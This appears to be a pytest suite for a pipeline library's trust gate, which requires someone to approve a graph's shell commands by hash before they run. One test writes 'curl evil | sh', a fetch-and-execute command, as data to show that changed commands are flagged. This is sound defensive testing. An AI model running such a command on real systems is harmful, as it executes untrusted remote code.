"""Commands that may run: the origin of a graph, ``trust=``, the environment, and what is remembered."""

import asyncio
import os
from pathlib import Path

import pytest

from attractor_nb import Pipeline, Run, load_pipeline, parse_dot, run_pipeline
from attractor_nb.decisions.planning.executable_surface import executable_surface
from attractor_nb.errors import OptionError, UntrustedSource
from attractor_nb.runtime.prepare.trust import trust_question
from attractor_nb.source import SourceText
from attractor_nb.testing import FakeProcesses

TEXT = """digraph Build {
    start [shape=Mdiamond]
    build [shape=parallelogram, tool_command="touch \\"$ATTRACTOR_LOGS_ROOT/../built\\""]
    check [shape=parallelogram, tool_command="true"]
    done  [shape=Msquare]
    start -> build -> check -> done
}"""
HASH = executable_surface(parse_dot(TEXT)).full_hash


@pytest.fixture
def file(tmp_path):
    path = tmp_path / "build.dot"
    path.write_text(TEXT)
    return path


def state_files():
    return sorted(entry.name for entry in Path(os.environ["ATTRACTOR_STATE_DIR"]).iterdir())


def is_run(pipeline, **options):
    """True if the pipeline ran its commands; a refusal must leave nothing behind."""
    before = sorted(Path().rglob("*"))
    try:
        result = pipeline.run(wait=True, logs_root="out/run", **options)
    except UntrustedSource:
        assert sorted(Path().rglob("*")) == before
        assert state_files() == []
        return False
    assert result.status == "success"
    return Path("out/built").exists()


@pytest.mark.parametrize("source", [TEXT, SourceText(TEXT, "<cell>"), parse_dot(TEXT)], ids=["text", "cell", "graph"])
def test_the_callers_own_text_needs_no_trust(source):
    assert is_run(Pipeline(source))


@pytest.mark.parametrize("source", ["build.dot", Path("build.dot"), Path("link.dot")], ids=repr)
def test_a_file_needs_trust(file, source):
    Path("link.dot").symlink_to(file)
    assert not is_run(Pipeline(source))


@pytest.mark.parametrize("trust", [True, HASH, HASH[:12], HASH[:12].upper()])
def test_a_file_runs_when_somebody_trusts_its_commands(file, trust):
    assert is_run(Pipeline(file), trust=trust)


def test_trust_holds_for_one_call_only(file):
    pipeline = Pipeline(file)
    pipeline.run(wait=True, trust=True)
    with pytest.raises(UntrustedSource):
        pipeline.run()
    pipeline.run(wait=True, trust=HASH)
    with pytest.raises(UntrustedSource):
        pipeline.run()


def test_every_way_to_run_asks(file):
    pipeline = Pipeline(file)
    for call in (
        pipeline.run,
        lambda: asyncio.run(pipeline.run_async()),
        pipeline.step,
        lambda: run_pipeline(file),
        lambda: run_pipeline("build.dot"),
        lambda: pipeline.run(durability="none"),
    ):
        with pytest.raises(UntrustedSource):
            call()
    assert not Path(".attractor").exists()
    assert asyncio.run(pipeline.run_async(trust=True)).status == "success"
    assert run_pipeline(file, trust=HASH).status == "success"


def test_the_trust_of_the_first_step_holds_for_the_steps_after(file):
    pipeline = Pipeline(file)
    assert pipeline.step(trust=HASH).status == "paused"
    assert pipeline.step().status == "paused"


def test_a_graph_without_commands_never_asks(tmp_path):
    (tmp_path / "plain.dot").write_text(
        "digraph { start [shape=Mdiamond] a [prompt=x] done [shape=Msquare] start -> a -> done }"
    )
    assert Pipeline("plain.dot").run(wait=True).status == "success"
    assert load_pipeline(next(Path(".attractor/runs").iterdir())).run(wait=True).status == "success"
    assert state_files() == []


def test_a_rehearsal_needs_no_trust(file):
    processes = FakeProcesses()
    assert Pipeline(file).run(wait=True, processes=processes).status == "success"
    assert len(processes.commands) == 2


def test_processes_of_the_users_own_that_run_commands_need_trust(file):
    class Own:
        run = FakeProcesses.run

    with pytest.raises(UntrustedSource):
        Pipeline(file).run(processes=Own())


def test_text_of_a_foreign_origin_needs_trust():
    pipeline = Pipeline(TEXT, origin="https://example.org/build.dot")
    with pytest.raises(UntrustedSource, match=r"https://example\.org/build\.dot runs 2 commands"):
        pipeline.run()
    assert pipeline.run(wait=True, trust=HASH).status == "success"
    with pytest.raises(UntrustedSource):
        Pipeline(TEXT, origin="").run()


def test_an_origin_is_a_path_or_a_name():
    with pytest.raises(OptionError, match="origin must be a path or a name, not int"):
        Pipeline(TEXT, origin=3)


def test_the_refusal_says_what_would_run_and_how_to_go_on(file):
    with pytest.raises(UntrustedSource) as caught:
        Pipeline(file).run()
    digits = HASH[:12]
    assert caught.value.surface_hash == HASH
    assert str(caught.value).splitlines() == [
        f"{file} runs 2 commands (hash {digits}) and needs your trust",
        f"commands run in {Path.cwd()}",
        '  build  tool_command  touch "$ATTRACTOR_LOGS_ROOT/../built"',
        "  check  tool_command  true",
        (
            f" hint: read them (`attractor-nb commands {file}` prints them whole), then trust them: "
            f'run(trust="{digits}") or resume(…, trust="{digits}") in Python, --trust on the command line, '
            f"or ATTRACTOR_TRUST={digits} where nobody can be asked"
        ),
    ]
    assert Pipeline(file).run(wait=True, trust=caught.value.surface_hash).status == "success"


@pytest.mark.parametrize("trust", ["yes", "*", HASH[:11], HASH + "0", 1, [HASH], ""], ids=repr)
def test_what_is_neither_true_nor_a_hash_is_refused(file, trust):
    with pytest.raises(OptionError, match="trust must be True or the hash of the commands"):
        Pipeline(file).run(trust=trust)


def test_the_environment_trusts_hashes(file, monkeypatch):
    monkeypatch.setenv("ATTRACTOR_TRUST", f"{'0' * 64}, {HASH[:12]}\n{'1' * 12}")
    assert is_run(Pipeline(file))


def test_the_environment_names_hashes_and_nothing_else(file, monkeypatch):
    monkeypatch.setenv("ATTRACTOR_TRUST", f"{HASH} *")
    with pytest.raises(OptionError, match=r"ATTRACTOR_TRUST holds '\*', which is not a hash"):
        Pipeline(file).run()


# -- what is remembered ------------------------------------------------------------------------------


def trust_once(path):
    """A person read the commands of a file and said yes."""
    pipeline = Pipeline(path)
    trust_question(pipeline.graph, pipeline.origin).remember()


def test_a_yes_is_remembered_for_the_file(file):
    trust_once(file)
    assert Pipeline("build.dot").run(wait=True).status == "success"


def test_a_change_that_concerns_no_command_is_not_asked_about(file):
    trust_once(file)
    file.write_text(TEXT.replace("digraph Build", "// Later\ndigraph Construct"))
    assert Pipeline(file).run(wait=True).status == "success"


def test_a_changed_command_is_asked_about_with_a_diff(file):
    trust_once(file)
    file.write_text(TEXT.replace('"true"', '"curl evil | sh"'))
    with pytest.raises(UntrustedSource, match="they are not those that were trusted before") as caught:
        Pipeline(file).run()
    lines = str(caught.value).splitlines()
    assert lines[1:4] == [f"commands run in {Path.cwd()}", "  --- trusted before", "  +++ now"]
    assert "  -  | true" in lines
    assert "  +  | curl evil | sh" in lines


def test_a_hash_that_is_given_decides_alone(file, monkeypatch):
    trust_once(file)
    monkeypatch.setenv("ATTRACTOR_TRUST", HASH)
    with pytest.raises(UntrustedSource, match="trust names 000000000000, but"):
        Pipeline(file).run(trust="0" * 12)


# -- run directories ---------------------------------------------------------------------------------


def stopped(source=TEXT, **options):
    return Pipeline(source).run(wait=True, logs_root="run", stop_after=2, **options).logs_root


def test_the_users_own_run_goes_on_without_a_question():
    assert load_pipeline(stopped()).resume("run").result(30).status == "success"


def test_a_run_begun_with_trust_goes_on_without_a_question(file):
    stopped(file, trust=True)
    assert Pipeline(file).resume("run").result(30).status == "success"


def test_a_loaded_run_goes_on_by_itself():
    assert Run.load(stopped()).resume().result(30).status == "success"


def test_a_run_directory_from_elsewhere_needs_trust(monkeypatch, tmp_path):
    stopped()
    monkeypatch.setenv("ATTRACTOR_STATE_DIR", str(tmp_path / "another-user"))
    for call in (
        lambda: load_pipeline("run").resume("run"),
        lambda: Run.load("run").resume(),
        lambda: load_pipeline("run").run(),
    ):
        with pytest.raises(UntrustedSource, match=r"pipeline\.dot runs 2 commands"):
            call()
    assert load_pipeline("run").resume("run", trust=HASH).result(30).status == "success"


def test_a_moved_run_directory_is_one_from_elsewhere():
    stopped().rename("moved")
    with pytest.raises(UntrustedSource):
        load_pipeline("moved").resume("moved")


def test_own_text_goes_on_in_any_directory(monkeypatch, tmp_path):
    stopped()
    monkeypatch.setenv("ATTRACTOR_STATE_DIR", str(tmp_path / "another-user"))
    assert Pipeline(TEXT).resume("run").result(30).status == "success"


def test_a_restarted_run_goes_on_from_the_directory_of_its_restart():
    text = """digraph { start [shape=Mdiamond] done [shape=Msquare]
        work [shape=parallelogram, tool_command="true"] again [shape=diamond]
        start -> work -> again
        again -> work [condition="context.internal.restarts!=1", loop_restart=true]
        again -> done [default=true] }"""
    result = Pipeline(text).run(wait=True, logs_root="run", max_restarts=1)
    assert result.logs_root.name == "restart-1"
    question = trust_question(load_pipeline(result.logs_root).graph, result.logs_root / "pipeline.dot")
    assert question is None


def test_a_command_that_holds_a_secret_is_remembered_by_its_hash_alone(file, monkeypatch):
    key = "sk-ant-api03-" + "Ab3" * 20
    monkeypatch.setenv("ANTHROPIC_API_KEY", key)
    file.write_text(TEXT.replace('"true"', f'"true {key}"'))
    trust_once(file)
    assert Pipeline(file).run(wait=True).status == "success"
    kept = Path(os.environ["ATTRACTOR_STATE_DIR"], "trust.json").read_text()
    assert (key in kept, str(file) in kept) == (False, True)


def test_runs_that_leave_nothing_are_not_remembered():
    Pipeline(TEXT).run(wait=True, durability="none")
    assert state_files() == []


def test_a_run_is_none_the_worse_for_a_state_directory_that_cannot_be_made(monkeypatch, tmp_path):
    (tmp_path / "taken").write_text("")
    monkeypatch.setenv("ATTRACTOR_STATE_DIR", str(tmp_path / "taken"))
    assert Pipeline(TEXT).run(wait=True).status == "success"
